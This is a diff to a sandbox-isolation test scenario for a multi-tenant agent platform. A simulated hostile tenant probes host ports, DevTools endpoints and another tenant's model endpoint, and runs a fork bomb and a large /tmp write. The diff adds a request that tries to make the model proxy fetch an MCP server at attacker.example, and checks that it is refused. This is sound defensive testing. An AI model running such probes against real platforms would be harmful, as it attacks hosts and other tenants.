@@ -3,7 +3,8 @@
 // agent tries every TCP port listening on the host's loopback (the platform, wrangler's
 // inspector, the fake model, other helpers' services), the DevTools `/json/version` of each, the
 // platform's `/api/health`, another tenant's model endpoint (its base URL and its socket's host
-// path, as if both leaked), a bounded fork bomb and a 1 GiB /tmp file. Nothing on the host may
+// path, as if both leaked), its own proxy with a body asking for Anthropic's MCP connector (any
+// URL; 400), a bounded fork bomb and a 1 GiB /tmp file. Nothing on the host may
 // answer, the bomb and the file stop at the pool's limits, and the host stays whole: the
 // platform answers, the executor lives, the other tenant's task completes.
 import { randomUUID } from "node:crypto";
@@ -61,6 +62,13 @@ const get = (url, init = {}) => fetch(url, { ...init, signal: AbortSignal.timeou
     body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 8, messages: [{ role: "user", content: "tenant b pays for this" }] }),
   });
   console.log("OTHER_PROXY " + JSON.stringify(other));
+  // Its own proxy, with a body that would have Anthropic's MCP connector fetch any URL.
+  const mcp = await get(process.env.ANTHROPIC_BASE_URL + "/v1/messages", {
+    method: "POST",
+    headers: { "content-type": "application/json", "anthropic-version": "2023-06-01" },
+    body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 8, messages: [{ role: "user", content: "hi" }], mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
+  });
+  console.log("OWN_PROXY_MCP " + JSON.stringify(mcp));
   const sock = await new Promise((done) => {
     if (!cfg.otherSocket) return done("no socket on the host");
     const s = net.connect(cfg.otherSocket);
@@ -165,7 +173,15 @@ export const cloudNetworkAndLimits: Scenario = {
 
     // What must hold, all checked before failing so the figure says everything.
     const problems: string[] = [];
-    for (const name of ["PLATFORM", "OTHER_PROXY", "OTHER_SOCKET", "OPEN", "INSPECTOR", "TMPFILE"])
+    for (const name of [
+      "PLATFORM",
+      "OTHER_PROXY",
+      "OWN_PROXY_MCP",
+      "OTHER_SOCKET",
+      "OPEN",
+      "INSPECTOR",
+      "TMPFILE",
+    ])
       if (line(name) === "") problems.push(`the ${name} probe did not finish`);
     const open = JSON.parse(line("OPEN") || "[]") as number[];
     if (open.length > 0)
@@ -181,6 +197,9 @@ export const cloudNetworkAndLimits: Scenario = {
     const other = line("OTHER_PROXY");
     if (/"status":200/.test(other))
       problems.push(`tenant b's model endpoint answered 200 for mallory`);
+    const mcp = line("OWN_PROXY_MCP");
+    if (!/"status":400/.test(mcp) || !mcp.includes("request_refused"))
+      problems.push(`its own proxy did not refuse an MCP connector body: ${mcp.slice(0, 120)}`);
     const sock = line("OTHER_SOCKET");
     if (sock === "connected") problems.push("tenant b's model socket accepted mallory");
     const bombFile = join(ex.home, "workspaces", taskId, "bomb.txt");
@@ -206,6 +225,6 @@ export const cloudNetworkAndLimits: Scenario = {
     if (bobEnd.task.status !== "completed" || !toolResult(ctx, bobPrompt).includes("b-done"))
       problems.push(`tenant b's task ended ${bobEnd.task.status}`);
     expectThat(problems.length === 0, problems.join("; "));
-    return `from the sandbox: 0 of ${ports.length} host loopback ports answered (platform :${platformPort} "${platform.slice(0, 60)}", no DevTools /json or /json/version on 9229, 9230 or any port); tenant b's leaked endpoint ${other.slice(0, 70)}, its socket's host path: ${sock}; a fork bomb of 1500 sleepers held at ${procs} processes alive (limit ${MAX_PROCESSES} for the task uid, threads included); a 1 GiB /tmp write stopped at ${Math.round(tmpBytes / 1024 / 1024)} MiB; platform 200, executor alive, tenant b completed; mallory's own task ${malloryEnd}`;
+    return `from the sandbox: 0 of ${ports.length} host loopback ports answered (platform :${platformPort} "${platform.slice(0, 60)}", no DevTools /json or /json/version on 9229, 9230 or any port); tenant b's leaked endpoint ${other.slice(0, 70)}, an MCP connector body through its own proxy ${mcp.slice(0, 14)}, its socket's host path: ${sock}; a fork bomb of 1500 sleepers held at ${procs} processes alive (limit ${MAX_PROCESSES} for the task uid, threads included); a 1 GiB /tmp write stopped at ${Math.round(tmpBytes / 1024 / 1024)} MiB; platform 200, executor alive, tenant b completed; mallory's own task ${malloryEnd}`;
   },
 };
